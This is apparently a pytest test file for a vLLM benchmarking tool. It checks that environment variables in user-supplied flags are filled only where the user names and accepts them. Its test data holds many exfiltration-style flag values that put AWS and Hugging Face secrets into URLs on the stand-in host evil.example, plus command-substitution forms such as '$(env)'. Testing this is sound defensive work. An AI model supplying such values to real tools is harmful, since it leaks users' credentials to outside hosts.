"""The variables in a foreign capsule: they are filled only where the user names them."""

import re

import pytest
from tests.submission.capsule.foreign_capsule import ENVIRON, words_of

from cm4vllm.common.errors import UsageError


@pytest.mark.parametrize(
    "flag",
    [
        "--api_server=http://evil.example/${AWS_SECRET_ACCESS_KEY:?}",
        "--api_server=http://${AWS_SECRET_ACCESS_KEY:?}.evil.example",
        "--api_server=evil.example:80/${HF_TOKEN:?}",
        "--api_server=http://localhost.evil.example/${HF_TOKEN:?}",
        "--api_server=http://127.0.0.1:80@evil.example/${HF_TOKEN:?}",
        "--api_server=http://127.0.0.1:8000,http://evil.example/${HF_TOKEN:?}",
        "--vllm_index_url=https://${HF_TOKEN:?}@evil.example/simple/",
        "--ray_address=evil.example:6379/${HF_TOKEN:?}",
        "--extra_args=--otlp-traces-endpoint=http://evil.example/${HF_TOKEN:?}",
        "--extra_args=--otlp-traces-endpoint evil.example:4317/${HF_TOKEN:?}",
        "--env.HF_ENDPOINT=http://evil.example/${HF_TOKEN:?}",
        "--adr.inference-src.tags=_repo.https://evil.example/${HF_TOKEN:?}",
        "--inference_src=https://evil.example/${HF_TOKEN:?}.git",
        "--api_server=${HF_TOKEN:?}",
        "--served_model_name=${HF_TOKEN:?}",
        "--dataset_path=${AWS_SECRET_ACCESS_KEY:?}",
    ],
)
def test_a_variable_never_goes_into_the_address_of_a_stranger(flag):
    name = re.search(r"\{(\w+)", flag)[1]
    for consent in ({}, {"fill": [name], "accept": [flag[2:].partition("=")[0]]}):
        with pytest.raises(UsageError) as refused:
            words_of(flag, **consent)
        assert ENVIRON[name] not in str(refused.value)
    with pytest.raises(UsageError, match="is not filled into"):
        words_of(flag, fill=[name], accept=[flag[2:].partition("=")[0]])


def test_only_variables_that_the_user_names_are_filled():
    flags = ("--dataset_path=${DATASET_PATH:?}", "--api_server=${API_SERVER:?}")
    with pytest.raises(UsageError, match="asks for more") as refused:
        words_of(*flags)
    assert "has the variable DATASET_PATH, which --fill does not name" in refused.value.cause
    assert refused.value.remedy.endswith("add to replay,mlperf: --fill=API_SERVER,DATASET_PATH")
    with pytest.raises(UsageError):
        words_of(*flags, fill=["DATASET_PATH"])
    words = words_of(*flags, fill=["DATASET_PATH", "API_SERVER"])
    assert {"--dataset_path=/data/cnn.json", "--api_server=http://gpu7:8000"} <= set(words)
    with pytest.raises(UsageError) as refused:
        words_of("--nltk_data=${NLTK_DATA:?}", fill=["NLTK_DATA"])
    assert "NLTK_DATA, which has no value here" in refused.value.cause
    assert "export NLTK_DATA=..." in refused.value.remedy
    with pytest.raises(UsageError, match="has no variable HOME"):
        words_of(*flags, fill=["HOME"])


@pytest.mark.parametrize("form", ["$HF_TOKEN", "${HF_TOKEN}", "${HF_TOKEN:-x}", "$(env)", "`env`", "<<<HF_TOKEN>>>"])
def test_other_forms_of_variables_are_no_value_that_is_taken(form):
    for flag in ("served_model_name", "dataset_path", "hw_name", "vllm_version", "env.X"):
        with pytest.raises(UsageError):
            words_of(f"--{flag}={form}")
    if "<" in form:
        with pytest.raises(UsageError, match="is refused"):
            words_of(f"--env.X={form}", accept=["env.X"])
    else:
        assert f"--env.X={form}" in words_of(f"--env.X={form}", accept=["env.X"])  # the text itself, unfilled


def test_what_the_user_gives_is_the_users_address():
    given = {"api_server": "http://gpu7/${HF_TOKEN:?}"}
    with pytest.raises(UsageError, match="asks for more"):
        words_of("--api_server=http://evil.example", given=given)
    words = words_of("--api_server=http://evil.example", given=given, fill=["HF_TOKEN"])
    assert "--api_server=http://gpu7/hub-token-value" in words and not [word for word in words if "evil" in word]


@pytest.mark.parametrize("name", ["VLLM_API_KEY", "OPENAI_API_KEY"])
def test_a_server_on_this_machine_gets_the_users_key_only_where_it_is_accepted(monkeypatch, name):
    """Any user of the machine can listen at an address of it."""
    flag = "--api_server=http://127.0.0.1:8000"
    assert flag in words_of(flag)
    monkeypatch.setitem(ENVIRON, name, "sk-user")
    with pytest.raises(UsageError, match="asks for more") as refused:
        words_of(flag)
    assert f"the server there gets the key in {name}" in refused.value.cause and "sk-user" not in str(refused.value)
    assert flag in words_of(flag, accept=["api_server"])
    assert "--api_server=http://gpu7:8000" in words_of("--api_server=${API_SERVER:?}", fill=["API_SERVER"])
    assert "--api_server=http://mine" in words_of(flag, given={"api_server": "http://mine"})


def test_a_secret_that_is_named_goes_where_a_secret_is_expected():
    flag = "--env.HF_TOKEN=${HF_TOKEN:?}"
    assert "--env.HF_TOKEN=hub-token-value" in words_of(flag, fill=["HF_TOKEN"], accept=["env.HF_TOKEN"])
    with pytest.raises(UsageError, match="asks for more") as refused:
        words_of(flag, fill=["HF_TOKEN"])
    assert "--accept=env.HF_TOKEN" in refused.value.remedy
